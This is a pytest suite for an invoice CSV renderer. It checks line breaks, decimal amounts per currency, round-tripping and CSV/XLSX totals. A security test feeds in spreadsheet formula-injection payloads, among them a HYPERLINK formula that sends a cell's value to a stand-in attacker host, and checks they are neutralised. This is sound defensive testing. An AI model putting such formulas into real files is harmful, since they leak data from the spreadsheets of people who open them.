"""The CSV rendering, read back with the csv module: the Document's numbers, RFC 4180, inert text."""

import csv
import io
from decimal import Decimal
from typing import Any

import pytest

from invoices.document.model import Document, RenderOptions
from invoices.document.validation import read_request
from invoices.renderers.cells import inert_text
from invoices.renderers.csv import COLUMNS, CONTENT_TYPE, render_csv
from tests.payloads import sample_payload, without_totals


def render(payload: dict[str, Any]) -> tuple[Document, bytes, list[dict[str, str]]]:
    options, document = read_request(payload)
    content = render_csv(document, options).content
    rows = list(csv.DictReader(io.StringIO(content.decode("utf-8"), newline="")))
    return document, content, rows


def of_type(rows: list[dict[str, str]], row_type: str) -> list[dict[str, str]]:
    return [row for row in rows if row["row_type"] == row_type]


@pytest.fixture(scope="module")
def sample() -> tuple[Document, bytes, list[dict[str, str]]]:
    return render(sample_payload())


def test_rendered_file(sample_document):
    rendered = render_csv(sample_document, RenderOptions(format="csv"))
    assert (rendered.filename, rendered.content_type) == ("INV-2026-0042.csv", CONTENT_TYPE)


def test_rfc4180_crlf_utf8_without_bom(sample):
    _, content, _ = sample
    assert not content.startswith(b"\xef\xbb\xbf")
    assert content.startswith(",".join(COLUMNS).encode() + b"\r\n")
    assert content.endswith(b"\r\n")
    assert b'"Backup storage\nNovember 2026"' in content  # quoted, with its own line break
    # header, lines, the two lines' discounts, the shipping charge, tax rates, total
    assert content.count(b"\r\n") == 1 + 3 + 2 + 1 + 2 + 1


def test_line_rows_hold_the_documents_numbers(sample):
    document, _, rows = sample
    lines = of_type(rows, "line")
    assert len(lines) == len(document.lines)
    for row, amount in zip(lines, document.lines, strict=True):
        line = amount.line
        assert row["invoice_number"] == "INV-2026-0042"
        assert (row["issue_date"], row["due_date"], row["currency"]) == ("2026-11-23", "2026-12-23", "EUR")
        assert (row["sku"], row["description"], row["unit"]) == (line.sku, line.description, line.unit)
        assert Decimal(row["quantity"]) == line.quantity
        assert Decimal(row["unit_price"]) == line.unit_price
        assert Decimal(row["discount_percent"]) == line.discount_percent
        assert Decimal(row["tax_rate"]) == line.tax_rate
        assert (row["discount"], row["net"]) == (str(amount.discount), str(amount.net))


def test_charge_tax_and_total_rows(sample):
    document, _, rows = sample
    assert [(r["description"], r["tax_rate"], r["net"]) for r in of_type(rows, "charge")] == [
        ("Shipping", "20", "15.00")
    ]
    assert [(r["tax_rate"], r["net"], r["tax"]) for r in of_type(rows, "tax")] == [
        (str(group.rate), str(group.base), str(group.tax)) for group in document.totals.tax_groups
    ]
    (total,) = of_type(rows, "total")
    assert (total["net"], total["tax"], total["gross"]) == ("996.11", "193.72", "1189.83")


def test_numbers_are_machine_readable(sample):
    _, _, rows = sample
    assert [row["unit_price"] for row in of_type(rows, "line")] == ["500.00", "12.345", "39.90"]
    assert [row["quantity"] for row in of_type(rows, "line")] == ["2", "3.5", "1"]


def test_no_thousands_separators():
    line = {"description": "x", "quantity": "1000", "unit_price": "1234.56"}
    _, _, rows = render(without_totals(lines=[line], shipping=None))
    assert of_type(rows, "total")[0]["net"] == "1234560.00"


# The sample in other currencies: 3.5 x 12.345 = 43.2075 rounds to 43.21, 43.208 or 43.2075, and so on.
@pytest.mark.parametrize(("currency", "gross"), [("JPY", "1190"), ("KWD", "1189.840"), ("CLF", "1189.8388")])
def test_amounts_have_exactly_the_currencys_decimals(currency, gross):
    document, _, rows = render(without_totals(currency=currency))
    assert of_type(rows, "total")[0]["gross"] == gross == str(document.totals.gross)


@pytest.mark.security
def test_formula_payloads_are_prefixed_with_a_quote():
    payloads = ["=1+2", "+SUM(A1:A2)", "-2+3", "@SUM(A1)", '=HYPERLINK("http://evil.example/?x="&A1,"x")']
    payload = without_totals(number="=1+1")
    for line, text in zip(payload["invoice"]["lines"], payloads, strict=False):
        line.update(sku=text[:64], description=text, unit="+1")
    _, _, rows = render(payload)
    for row, text in zip(of_type(rows, "line"), payloads, strict=False):
        assert (row["sku"], row["description"], row["unit"]) == ("'" + text[:64], "'" + text, "'+1")
    assert all(row["invoice_number"] == "'=1+1" for row in rows)


def test_quotes_commas_and_newlines_round_trip():
    description = 'He said "hi", then left\nsecond line'
    payload = without_totals()
    payload["invoice"]["lines"][0]["description"] = description
    _, _, rows = render(payload)
    assert of_type(rows, "line")[0]["description"] == description


@pytest.mark.security
@pytest.mark.parametrize("text", ["=1", "+1", "-1", "@1", "\t=1", "\r=1"])
def test_inert_text_prefixes_every_trigger(text):
    assert inert_text(text) == "'" + text


@pytest.mark.security
@pytest.mark.parametrize("text", ["", "plain", "1-2", " =1", "a=b"])
def test_inert_text_leaves_other_text_alone(text):
    assert inert_text(text) == text


def test_csv_and_xlsx_show_the_same_totals(sample_document):
    import openpyxl

    from invoices.renderers.xlsx import render_xlsx

    rows = list(csv.DictReader(io.StringIO(render_csv(sample_document, RenderOptions()).content.decode())))
    sheet = openpyxl.load_workbook(io.BytesIO(render_xlsx(sample_document, RenderOptions()).content)).active
    xlsx_totals = {
        sheet.cell(row, 7).value: Decimal(repr(sheet.cell(row, 8).value))
        for row in range(1, sheet.max_row + 1)
        if sheet.cell(row, 7).value in ("Net total", "Tax total", "Total (EUR)")
    }
    (total,) = of_type(rows, "total")
    assert xlsx_totals == {
        "Net total": Decimal(total["net"]),
        "Tax total": Decimal(total["tax"]),
        "Total (EUR)": Decimal(total["gross"]),
    }
